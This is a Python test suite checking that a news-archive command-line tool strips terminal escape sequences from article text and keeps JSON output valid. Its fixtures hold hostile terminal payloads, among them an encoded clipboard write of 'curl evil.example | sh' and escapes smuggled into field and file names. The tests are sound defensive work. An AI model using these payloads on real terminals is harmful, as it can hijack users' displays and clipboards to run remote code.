"""Nothing an article says can drive the terminal: ``search``, ``show``,
``clean``, ``stats`` and ``reindex`` print no escape sequence or control
character; ``--json`` stays valid JSON with them encoded as ``\\u`` escapes."""
from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest

from web.cli import terminal_safe

CLI = [sys.executable, "-m", "web.cli"]

#: CSI clear screen, OSC set title (BEL and ST ends), OSC 52 clipboard write,
#: OSC 8 hyperlink, DCS, 8-bit CSI and OSC, a bare BEL, backspace and CR.
ATTACKS = ["\x1b[2J\x1b[H", "\x1b]0;pwned title\x07", "\x1b]2;other title\x1b\\",
           "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07", "\x1b]8;;http://evil.example\x1b\\",
           "\x1bP+q544e\x1b\\", "\x9b31m", "\x9d0;c1 title\x9c", "\x07", "\x08\x08", "\r"]
RAW = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


RECORD = {"id": "esc/1",
          "title": "Harbour \x1b]0;owned\x07pilots \x1b[31mstrike",
          "body": ("Harbour pilots walked out on Monday. " + "".join(a + "x " for a in ATTACKS)
                   + "\n\nThe port authority said talks with harbour pilots resume on Friday."),
          "published": "2025-06-02", "source": "Wire \x1b]52;c;ZXZpbA==\x07Desk",
          "author": "A. \x9b2JReporter", "url": "https://example.org/\x1b[2Jharbour"}


@pytest.fixture(scope="module")
def corpus(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("esc")
    (root / "src").mkdir()
    (root / "src" / "esc.jsonl").write_text(json.dumps(RECORD) + "\n", "utf-8")
    (root / "src" / "e\x1b[2Jvil.txt").write_text("Title line\n\nA body about harbour pilots.\n",
                                                 "utf-8")
    return root


def run(*argv):
    proc = subprocess.run(CLI + list(argv), capture_output=True, timeout=300,
                          cwd=Path(__file__).resolve().parents[2])
    return proc.returncode, proc.stdout.decode("utf-8"), proc.stderr.decode("utf-8")


@pytest.fixture(scope="module")
def ixdir(corpus) -> Path:
    where = corpus / "ix"
    code, out, err = run("reindex", str(corpus / "src"), "--index", str(where))
    assert code == 0, err
    assert not RAW.search(out) and not RAW.search(err), out
    return where


def test_terminal_safe_removes_every_sequence_whole():
    assert terminal_safe("a\x1b[2Jb\x1b]0;title\x07c\x1b]52;c;QQ==\x1b\\d\x9b1me\x9d0;t\x9cf") \
        == "abcdef"
    assert terminal_safe("tab\tand\nnewline stay; \r and \x07 go") == "tab\tand\nnewline stay;  and  go"
    assert terminal_safe("an OSC \x1b]0;that never ends") == "an OSC 0;that never ends"
    assert terminal_safe("\x1b7saved\x1b8 \x1bc") == "saved "
    assert terminal_safe(None) == ""


def test_terminal_safe_is_linear():
    import time
    text = ("\x1b]" + "a" * 50) * 20000 + "\x1b[" + "1;" * 100000
    t = time.perf_counter()
    terminal_safe(text)
    assert time.perf_counter() - t < 2.0


@pytest.mark.parametrize("argv", [("search", "harbour"), ("search", "pilots", "--limit", "5"),
                                  ("show", "esc/1"), ("stats",)])
def test_index_commands_print_no_escape(ixdir, argv):
    code, out, err = run(*argv, "--index", str(ixdir))
    assert code == 0, err
    assert not RAW.search(out), repr(RAW.findall(out))
    assert not RAW.search(err)
    assert "\x1b" not in out and "pwned" not in out and "owned" not in out


def test_search_output_keeps_the_words(ixdir):
    code, out, _ = run("search", "harbour", "--index", str(ixdir))
    assert "Harbour pilots strike" in out and "Wire Desk" in out


def test_show_keeps_text_but_drops_sequences(ixdir):
    _, out, _ = run("show", "esc/1", "--index", str(ixdir))
    assert out.startswith("Harbour pilots strike\n")
    assert "source: Wire Desk" in out and "author: A. Reporter" in out
    assert "url: https://example.org/harbour" in out


def test_clean_prints_no_escape(corpus):
    code, out, err = run("clean", str(corpus / "src" / "esc.jsonl"))
    assert code == 0, err
    assert not RAW.search(out) and "Harbour pilots strike" in out


@pytest.mark.parametrize("argv", [("search", "harbour", "--json"), ("show", "esc/1", "--json"),
                                  ("stats", "--json")])
def test_json_stays_json_with_escapes_encoded(ixdir, argv):
    code, out, _ = run(*argv, "--index", str(ixdir))
    assert code == 0
    assert not RAW.search(out.rstrip("\n"))
    data = json.loads(out)
    if argv[0] == "show":       # the stored text itself is unchanged, only encoded
        assert data["source"] == RECORD["source"] and data["author"] == RECORD["author"]


def test_clean_json_stays_json(corpus):
    _, out, _ = run("clean", str(corpus / "src" / "esc.jsonl"), "--json")
    assert not RAW.search(out.rstrip("\n"))
    assert json.loads(out)["source"] == RECORD["source"]


def test_error_lines_are_terminal_safe(ixdir):
    code, out, err = run("show", "no\x1b]0;x\x07such", "--index", str(ixdir))
    assert code == 1 and not RAW.search(err.rstrip("\n"))


def test_version():
    code, out, _ = run("--version")
    assert code == 0 and re.fullmatch(r"newsarchive \S+\n", out)
